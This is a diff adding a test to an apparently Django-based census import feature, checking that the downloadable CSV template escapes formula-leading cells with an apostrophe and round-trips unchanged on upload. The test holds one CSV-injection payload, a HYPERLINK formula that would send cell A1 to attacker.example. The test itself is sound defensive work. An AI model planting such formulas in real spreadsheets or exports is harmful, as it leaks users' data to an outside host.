@@ -199,3 +199,22 @@ def test_a_confirmation_of_someone_elses_file_is_refused(client, coordinator, ce
     refused = confirm(other, census_round, checked)
     assert refused.status_code == 400 and "no checked file" in refused.text
     assert not Answer.objects.exists()
+
+
+def test_the_template_cannot_run_a_formula_and_reads_its_phone_back_as_written(
+        client, coordinator, census_round):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    invitation = census_round.invitations.select_related("service").first()
+    Service.objects.filter(pk=invitation.service_id).update(name=formula,
+                                                            contact_phone="+44 113 496 0000")
+    staff = sign_in(client, coordinator)
+    response = staff.get(reverse("census:import-template", args=[census_round.pk]))
+    header, example = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = dict(zip(header, example, strict=True))
+    assert row["service_name"] == "'" + formula
+    assert row["contact_phone"] == "'+44 113 496 0000"
+    example[2] = "other"
+    saved = io.StringIO()
+    csv.writer(saved).writerows([header, example])  # the file as downloaded, role filled in
+    checked = upload(staff, census_round, saved.getvalue().encode())
+    assert checked.status_code == 200 and checked.context["rows"][0].changed_sections == ()
